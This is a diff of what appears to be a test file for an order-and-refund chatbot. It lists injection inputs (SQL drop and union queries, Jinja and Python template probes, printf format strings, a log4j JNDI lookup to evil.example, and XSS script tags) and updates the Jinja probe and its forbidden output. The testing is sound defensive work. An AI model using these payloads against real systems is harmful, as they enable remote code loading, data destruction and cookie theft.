@@ -402,7 +402,7 @@ _CODE = {
     "SQL with a quote": "'; DROP TABLE orders; --",
     "SQL with a union": '" UNION SELECT sealed, email_index FROM customers --',
     "a template of Python": "{refund} {order.amount} {0.__class__.__mro__}",
-    "a template of Jinja": "{{7*7}} {{ config.items() }} {% for x in y %}",
+    "a template of Jinja": "{{1234567*8}} {{ config.items() }} {% for x in y %}",
     "a printf format": "%s %n %(refund)s %99999999d",
     "a lookup of log4j": "${jndi:ldap://evil.example/a} $(id) `id`",
     "a script": "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
@@ -423,7 +423,7 @@ CODE = [
         f"Where the bot asks, {name} is a text",
         text,
         *(("number", "reason") if index % 2 else ("email", "quote")),
-        must_not=("49", "<script", "root:", "9999", "javascript:", "Done.", "\x1b", "mro"),
+        must_not=("9876536", "<script", "root:", "9999", "javascript:", "Done.", "\x1b", "mro"),
         may_change=FORM | {"answer"},
     )
     for index, (name, text) in enumerate(_CODE.items())
